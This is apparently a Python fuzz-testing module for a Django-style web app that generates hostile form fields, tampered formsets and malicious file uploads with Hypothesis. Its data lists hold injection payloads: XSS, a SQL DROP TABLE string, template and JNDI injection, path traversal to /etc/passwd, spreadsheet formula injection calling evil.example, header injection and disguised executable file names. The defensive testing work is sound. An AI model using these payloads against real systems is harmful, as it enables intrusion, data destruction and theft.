"""Hostile form data: what a careless client, a broken browser or an attacker may send.

Values are strings (or lists of strings: the same key sent twice), because that is all an
HTTP form carries. Lone surrogates cannot be encoded as UTF-8; the harness sends them the
way a broken client would, as the invalid bytes `surrogatepass` produces (ED A0 80), so the
server meets the bytes, not a Python string it could never receive.

A body starts as a valid POST (so the success path is reached too) and is then mutated:
a field replaced by a hostile value, dropped, sent twice, or joined by unexpected fields;
formsets get their management form tampered with and rows duplicated.
"""

from hypothesis import strategies as st

# --- text ----------------------------------------------------------------------------------
NUL = "\x00"
C0_AND_C1 = [chr(c) for c in (*range(0x00, 0x20), 0x7F, *range(0x80, 0xA0))]
INVISIBLE = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e", "\u034f"]
BIDI = ["\u202e", "\u202d", "\u202a", "\u202b", "\u202c", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f",
        "\u061c"]
EMOJI = ["😀", "👩🏽\u200d⚕️", "🏳️\u200d🌈", "🇺🇸", "\U0001f9ec", "🫠"]
ODD_LETTERS = ["\u2028", "\u2029", "\u0085", "ﬃ", "ǅ", "İ", "ß", "ﷺ", "\uffff", "\U0010ffff", "\ufffd", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
               "Z̴̡̪̫͍̮̱̹̼͂̎͊͌͗̚", "Ａ", "ｌａｃｔａｔｅ", "\u0301"]

SPECIAL_STRINGS = [
    "", " ", "\t", "\r\n", " \u3000 ", NUL, f"lactate{NUL}", f"{NUL}{NUL}{NUL}", "\x1b[31mred\x1b[0m", "\x07\x08\x7f",
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'; DROP TABLE initiatives_initiative; --",
    "{{ request.user.password }}", "{% debug %}", "%s%s%s%n", "{0.__class__}", "${jndi:ldap://x/a}",
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "=HYPERLINK(\"http://evil.example\",\"x\")", "+cmd|' /C calc'!A0",
    "@SUM(1+1)", "-2+3", "line one\r\nSet-Cookie: admin=1", "Subject: x\nBcc: all@hospital.example",
    "null", "None", "undefined", "true", "false", "[]", "{}", "{\"a\": 1}", "__proto__", "constructor",
    "\u202egpj.exe", "Ω" * 3, "ß" * 3, "İ", "\u00e9" + "\u0301" * 50,
]

NUMBERS_AS_TEXT = [
    "0", "-0", "+0", "0.0", "-0.0", "1e309", "-1e309", "1e308", "1e-400", "NaN", "nan", "-nan", "inf", "-inf",
    "Infinity", "-Infinity", "1_000", "1__0", "_1", "١٢٣", "١٫٥", "٣", "１２", "৫", "²", "½", "Ⅻ", "0x10", "0o7", "0b1",
    "1,000", "1.000,5", " 12 ", "+5", "--1", "-", "+", ".", "1.", ".5", "5e", "e5", "1e", "1e+", "9" * 40, "9" * 400,
    "9" * 5000, "-" + "9" * 30, "0." + "0" * 400 + "1", "2147483648", "9223372036854775808", "-9223372036854775809",
    "4294967296", "1.7976931348623157e308", "5e-324", "12abc", "abc", "1 2", "1\x002", "٠.٥", "0.14%", "$60", "60.005",
    "60.004999", "999999.99", "1000000.00", "-60", "1e2", "100000000000000000000000",
]

DATES_AS_TEXT = [
    "0000-00-00", "0001-01-01", "9999-12-31", "10000-01-01", "2026-02-30", "2026-02-29", "2024-02-29", "2026-13-01",
    "2026-00-10", "2026-1-1", "20260203", "2026/02/03", "02/03/2026", "31/12/2026", "2026-02-03T10:00:00",
    "2026-02-03 25:61", "today", "yesterday", "-2026-01-01", "２０２６-０２-０３", "٢٠٢٦-٠٢-٠٣", "1970-01-01",
    "1900-02-29", "2038-01-19", "2026-02-03\x00", " 2026-02-03 ", "0", "-1", "1e9",
]


def _huge(seed: str, size: int) -> str:
    seed = seed or "x"
    return (seed * (size // len(seed) + 1))[:size]


huge_text = st.builds(
    _huge,
    st.sampled_from(["A", "é", "😀", "\u202e", "a\x00", "ab\r\n", "\u200b", "١"]),
    st.sampled_from([201, 1_001, 5_000, 100_000]),
)

control_text = st.text(alphabet=st.sampled_from(C0_AND_C1), min_size=1, max_size=8)
exotic_text = st.lists(st.sampled_from([*INVISIBLE, *BIDI, *EMOJI, *ODD_LETTERS]), min_size=1, max_size=6).map("".join)
lone_surrogates = st.lists(st.integers(0xD800, 0xDFFF).map(chr), min_size=1, max_size=3).map("".join)
any_unicode = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=40)
# PostgreSQL refuses NUL in text and in jsonb: the classic 500, so it gets a strategy of its own.
with_nul = st.builds(lambda text, at: text[:at] + NUL + text[at:], any_unicode, st.integers(0, 40))


@st.composite
def hostile_text(draw) -> str:
    """One hostile string: huge, control characters, lone surrogates, bidi/zero-width, injections."""
    return draw(st.one_of(
        st.sampled_from(SPECIAL_STRINGS),
        with_nul,
        huge_text,
        control_text,
        exotic_text,
        lone_surrogates,
        any_unicode,
        st.sampled_from(NUMBERS_AS_TEXT),
        st.sampled_from(DATES_AS_TEXT),
    ))


@st.composite
def hostile_value(draw, valid: str = "") -> str | list[str]:
    """A replacement for a field whose valid value is `valid`: hostile, or valid with something wrapped round it,
    or the key sent twice (a list)."""
    kind = draw(st.sampled_from(["hostile", "hostile", "hostile", "wrap", "twice"]))
    if kind == "hostile":
        return draw(hostile_text())
    if kind == "wrap":
        extra = draw(st.one_of(control_text, exotic_text, lone_surrogates, st.sampled_from([NUL, " ", "\n", "x"])))
        where = draw(st.sampled_from(["prefix", "suffix", "middle"]))
        if where == "prefix":
            return extra + valid
        if where == "suffix":
            return valid + extra
        half = len(valid) // 2
        return valid[:half] + extra + valid[half:]
    return draw(st.lists(st.one_of(st.just(valid), hostile_text()), min_size=2, max_size=3))


# --- bodies ----------------------------------------------------------------------------------
EXTRA_KEYS = [
    "status", "owner", "data", "pk", "id", "slug", "is_superuser", "csrfmiddlewaretoken", "next", "gate-status",
    "gate-data", "gate-__proto__", "initial-gate-mode", "decided_by", "signer", "digest", "version", "replaces",
    "file", "DELETE", "form-TOTAL_FORMS", "\x00", "", "é" * 50, "a" * 5_000,
]


@st.composite
def mutated(draw, base: dict, *, max_mutations: int = 4, keys: list[str] | None = None) -> dict:
    """`base` with up to `max_mutations` hostile changes; about one body in six is left valid."""
    body = {k: (list(v) if isinstance(v, list) else v) for k, v in base.items()}
    keys = sorted(keys if keys is not None else base)
    count = draw(st.integers(0, max_mutations))
    for _ in range(count):
        op = draw(st.sampled_from(["replace", "replace", "replace", "drop", "twice", "extra"]))
        if op == "extra" or not keys:
            body[draw(st.one_of(st.sampled_from(EXTRA_KEYS), any_unicode))] = draw(
                st.one_of(hostile_text(), st.sampled_from(list(map(str, base.values()))[:5] or [""])))
            continue
        key = draw(st.sampled_from(keys))
        current = body.get(key, "")
        current = current[0] if isinstance(current, list) and current else current
        if op == "replace":
            body[key] = draw(hostile_value(str(current)))
        elif op == "drop":
            body.pop(key, None)
        else:
            body[key] = [str(current), draw(st.one_of(st.just(str(current)), hostile_text()))]
    return body


# --- formsets --------------------------------------------------------------------------------
MANAGEMENT_VALUES = ["-1", "0", "1", "2", "3", "1000", "1001", "5000", "99999999999999999999", "abc", "", " 1 ", "1e3",
                     "١", "1.0", "0x1", NUL, "2\x00"]


@st.composite
def tampered_formset(draw, body: dict, prefix: str, row_fields: list[str]) -> dict:
    """Tamper with a formset's management form and rows: counts huge, negative or not numbers, the
    management form missing, rows duplicated (same name, or the same name in another case), rows
    beyond TOTAL_FORMS, rows ticked for deletion, many valid rows at once."""
    body = dict(body)
    total = body.get(f"{prefix}-TOTAL_FORMS", "0")
    try:
        rows = max(int(total), 0)
    except (TypeError, ValueError):
        rows = 0
    op = draw(st.sampled_from(["count", "count", "no_management", "duplicate", "duplicate_case", "beyond", "delete",
                               "many", "initial"]))
    if op == "count":
        field = draw(st.sampled_from(["TOTAL_FORMS", "INITIAL_FORMS", "MIN_NUM_FORMS", "MAX_NUM_FORMS"]))
        body[f"{prefix}-{field}"] = draw(st.sampled_from(MANAGEMENT_VALUES))
    elif op == "initial":
        body[f"{prefix}-INITIAL_FORMS"] = draw(st.sampled_from(["1", "2", "1000", "-5"]))
    elif op == "no_management":
        for field in ("TOTAL_FORMS", "INITIAL_FORMS", "MIN_NUM_FORMS", "MAX_NUM_FORMS"):
            body.pop(f"{prefix}-{field}", None)
    elif op in ("duplicate", "duplicate_case", "many") and rows:
        copies = draw(st.integers(1, 3)) if op != "many" else draw(st.sampled_from([8, 20]))
        for n in range(copies):
            index = rows + n
            for field in row_fields:
                value = body.get(f"{prefix}-0-{field}", "")
                if field == "name" and op == "duplicate_case" and isinstance(value, str):
                    value = f"  {value.upper()} "
                elif field == "name" and op == "many" and isinstance(value, str):
                    value = f"{value}_{n}"
                body[f"{prefix}-{index}-{field}"] = value
        body[f"{prefix}-TOTAL_FORMS"] = str(rows + copies)
    elif op == "beyond":
        index = draw(st.sampled_from([rows, rows + 5, 999, 10**6, -1]))
        for field in row_fields:
            body[f"{prefix}-{index}-{field}"] = body.get(f"{prefix}-0-{field}", "x")
    elif op == "delete" and rows:
        body[f"{prefix}-{draw(st.integers(0, rows - 1))}-DELETE"] = draw(st.sampled_from(["on", "1", "true", "off", ""]))
    return body


# --- files -------------------------------------------------------------------------------------
HOSTILE_NAMES = [
    "report.pdf", "../../etc/passwd", "..\\..\\boot.ini", "a/b.pdf", "/abs.pdf", ".htaccess", ".pdf", "", " ",
    "report.pdf\x00.exe", "report\x00.pdf", "%00.pdf", "CON.pdf", "nul", "report.pdf.exe", "report.exe.pdf",
    "x" * 300 + ".pdf", "résumé.pdf", "报告.pdf", "\u202egpj.exe", "report\u200b.pdf", "😀.pdf", "a\r\nb.pdf",
    "a\"b.pdf", "a;b=c.pdf", "report.PDF", "report", "report.txt", "report.csv", "data.xlsx", "memo.docx",
    "photo.png", "photo.jpg", "invoice.html", "macro.docm", "report.pdf ", "report.pdf.", "..", ".", "~report.pdf",
]


def pdf() -> bytes:
    from tests.factories import pdf_bytes

    return pdf_bytes()


def png() -> bytes:
    from tests.factories import png_bytes

    return png_bytes()


def docx() -> bytes:
    from tests.factories import office_bytes

    return office_bytes("word")


CONTENTS = {
    "pdf": pdf,
    "png": png,
    "docx": docx,
    "empty": lambda: b"",
    "text": lambda: "Drill minutes, 5 West.\n".encode(),
    "text_nul": lambda: b"Drill\x00minutes\x00" * 10,
    "csv": lambda: b"name,value\nlactate,2.1\n=cmd|' /C calc'!A0,1\n",
    "exe": lambda: b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 120 + b"PE\x00\x00",
    "elf": lambda: b"\x7fELF\x02\x01\x01" + b"\x00" * 64,
    "html": lambda: b"<!doctype html><script>alert(1)</script>",
    "svg": lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "pdf_then_exe": lambda: pdf() + b"MZ" + b"\x00" * 64,
    "pdf_header_only": lambda: b"%PDF-1.7\n",
    "zip_not_office": lambda: b"PK\x03\x04" + b"\x00" * 60,
    "latin1_text": lambda: "Café ½ drill".encode("latin-1"),
    "utf16_text": lambda: "Drill record".encode("utf-16"),
    "random": None,  # drawn
    "oversize": None,  # one byte over the limit the fuzz test sets
}


@st.composite
def hostile_file(draw, limit: int) -> tuple[str, str, bytes]:
    """(file name, declared content type, bytes)."""
    name = draw(st.one_of(st.sampled_from(HOSTILE_NAMES), hostile_text().map(lambda s: s[:300])))
    kind = draw(st.sampled_from(sorted(CONTENTS)))
    if kind == "random":
        data = draw(st.binary(min_size=1, max_size=512))
    elif kind == "oversize":
        data = pdf() + b"0" * (limit + 1)
    else:
        data = CONTENTS[kind]()
    declared = draw(st.sampled_from(["application/pdf", "image/png", "text/plain", "application/octet-stream",
                                     "application/x-msdownload", "", "text/html; charset=\x00", "../../x"]))
    return name, declared, data
